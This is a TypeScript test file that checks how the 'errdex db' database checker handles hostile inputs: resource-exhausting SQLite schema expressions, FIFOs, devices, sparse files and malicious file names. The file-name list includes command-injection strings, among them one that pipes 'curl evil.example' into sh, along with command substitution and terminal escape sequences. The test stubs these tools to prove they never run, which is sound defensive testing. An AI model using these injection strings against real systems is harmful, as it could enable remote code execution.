/**
 * Hostile inputs for `errdex db`, each run as a user runs the command (its own process): every
 * case ends with a clear message and its documented exit code, and the process's peak memory
 * stays within the budget, whatever the file asks for. Inputs are made by scripts
 * (make-hostile-db.ts, the database fixtures); the large ones are sparse files.
 *
 * Exit codes (README): 0 no error-level finding; 1 corruption or error findings; 2 the file could
 * not be checked (not a regular file, not a database, or a check stopped with nothing to stand in).
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, closeSync, copyFileSync, existsSync, ftruncateSync, mkdirSync, mkdtempSync, openSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { makeDatabases } from '../fixtures/db/make-databases.ts';
import { publishedJson } from '../published-json.ts';
import { errdex } from './cli.ts';
import { makeHostileDatabases } from './make-hostile-db.ts';

const h = makeHostileDatabases();
const f = makeDatabases();

/**
 * Peak memory allowed to one `errdex db` process on any input: Node and sql.js (about 130 MiB
 * here), the second thread (about 25 MiB), and SQLite's heap limit (512 MiB) that no schema
 * expression can pass. The native sqlite3 shell takes 1.5 GB on check-huge.db.
 */
const PEAK_MIB = 800;

/** `errdex db --json`, checked against its published schema. */
const json = (out: string) => publishedJson('db', out);

describe('schema expressions that cost any amount of time or memory', () => {
  // Hours of work each, stopped by the time limit (1 s); the 900 MB string is stopped by SQLite's
  // heap limit first, well within the default time limit.
  it.each([
    ['a CHECK building a 5 MB string per row, 100,000 rows', 'checkSlow', ['--time-limit', '1'], 0, 'warning', /did not finish within its time budget.*integrity_check ran again with CHECK constraints ignored/s],
    ['a CHECK asking for a 900 MB string', 'checkHuge', [], 0, 'warning', /ran out of the memory SQLite may use/],
    ['a partial index whose WHERE builds a 5 MB string per row', 'indexSlow', ['--time-limit', '1'], 0, 'warning', /quick_check ran instead/],
    ['a NOT NULL computed column built from a 5 MB string per row', 'generatedSlow', ['--time-limit', '1'], 2, 'unreadable', /No check that leaves these expressions alone can stand in/],
  ] as const)('%s: bounded memory, the expression named', (_name, key, limit, exit, verdict, message) => {
    const r = errdex(['db', h[key], '--json', ...limit]);
    expect(r.code, r.stderr).toBe(exit);
    const report = json(r.stdout);
    expect(report.verdict).toBe(verdict);
    const stopped = report.findings.find((x) => x.code === 'SQLT_9105');
    expect(stopped?.message.en).toMatch(message);
    expect(r.peakMiB).toBeLessThan(PEAK_MIB);
  });

  it('the text report says the same in a few lines, and exits the same', () => {
    const r = errdex(['db', h.generatedSlow, '--time-limit', '1', '--lang', 'en']);
    expect(r.code).toBe(2);
    expect(r.stdout).toMatch(/^generated-slow\.db: Not checked/);
    expect(r.stdout).toContain("generated column t.g: length(printf('%.*c', 5000000 + x, 'x'))");
  });
});

describe('inputs that are not database files', () => {
  const dir = mkdtempSync(join(tmpdir(), 'errdex-hostile-'));
  const fifo = join(dir, 'pipe.db');
  spawnSync('mkfifo', [fifo]);

  it.each([
    ['a FIFO nobody writes to', fifo, /it is a FIFO \(named pipe\), not a regular file/],
    ['an endless device', '/dev/zero', /it is a character device/],
    ['a directory', dir, /it is a directory/],
  ])('%s: exit 2 before reading, at once', (_name, path, message) => {
    const r = errdex(['db', path, '--json'], { timeoutMs: 60_000 });
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(message);
    expect(r.peakMiB).toBeLessThan(PEAK_MIB);
  });

  it('a 3 GiB sparse file of zeros: not a database, exit 2, read no further than its start', () => {
    const path = join(dir, 'zeros.db');
    const fd = openSync(path, 'w');
    ftruncateSync(fd, 3 * 2 ** 30);
    closeSync(fd);
    const r = errdex(['db', path, '--json']);
    expect(r.code).toBe(2);
    expect(json(r.stdout).findings.map((x) => x.code)).toEqual(['SQLT_9000']);
    expect(r.peakMiB).toBeLessThan(PEAK_MIB);
    rmSync(path);
  });

  it('a real database followed by 3 GiB of zeros: checked page by page within the memory budget', () => {
    const path = join(dir, 'padded.db');
    copyFileSync(f.roas.healthy, path);
    const fd = openSync(path, 'r+');
    ftruncateSync(fd, 3 * 2 ** 30);
    closeSync(fd);
    const r = errdex(['db', path, '--json']);
    expect([0, 1]).toContain(r.code);
    const report = json(r.stdout);
    expect(report.integrity).toBe('ok');
    expect(r.peakMiB).toBeLessThan(PEAK_MIB);
    rmSync(path);
  });
});

describe('a WAL from somewhere else', () => {
  it('is not applied, and the report says so', () => {
    const r = errdex(['db', f.wal.stale.db, '--wal', f.wal.stale.wal, '--json']);
    expect(r.code).toBe(0);
    expect(json(r.stdout).findings.find((x) => x.code === 'SQLT_9012')?.message.en).toMatch(/does not belong to this database/);
  });
});

describe('hostile file names', () => {
  const names = ['x.db;curl evil.example|sh;#.db', '$HOME$(id)`id`.db', "it's.db", '-rf.db', 'new\nline.db', 'esc\u001b[2J\u001b[H.db'];

  it.each(names.map((n) => [JSON.stringify(n), n]))('%s: every suggested command runs only what it says, and the terminal sees no escape', (_label, name) => {
    const dir = mkdtempSync(join(tmpdir(), 'errdex-names-'));
    // A damaged database under the hostile name: its findings come with commands to paste.
    copyFileSync(f.damaged['flipped-btree-header.db']!, join(dir, name));
    // As a person types it: a name that starts with a dash is given as ./name.
    const arg = name.startsWith('-') ? `./${name}` : name;
    const run = errdex(['db', arg, '--json'], { cwd: dir });
    expect(run.code, run.stderr).toBe(1);
    expect(run.peakMiB).toBeLessThan(PEAK_MIB);
    const report = json(run.stdout);
    const commands = report.findings.flatMap((x) => (x.command?.code ? [x.command.code] : []));
    expect(commands.length).toBeGreaterThan(0);
    // Fake tools record their arguments; curl, id and sh would record that they ran.
    const bin = join(dir, '.bin');
    mkdirSync(bin);
    const log = join(dir, '.calls');
    for (const tool of ['sqlite3', 'cp', 'curl', 'id', 'sh']) {
      writeFileSync(join(bin, tool), `#!/bin/bash\nprintf '%s\\n' "${tool}" >> '${log}'\n`);
      chmodSync(join(bin, tool), 0o755);
    }
    for (const command of commands) {
      const shell = spawnSync('/bin/bash', ['--norc', '-c', command], { cwd: dir, encoding: 'utf8', env: { PATH: bin } });
      expect(shell.status, `${command}\n${shell.stderr}`).toBe(0);
    }
    const calls = existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n') : [];
    expect(calls.length).toBeGreaterThan(0);
    expect(calls.filter((c) => c !== 'sqlite3' && c !== 'cp')).toEqual([]);
    // The text report never hands the terminal a control character from the name.
    const text = errdex(['db', arg, '--lang', 'en'], { cwd: dir });
    expect(text.stdout + text.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    rmSync(dir, { recursive: true, force: true });
  });
});
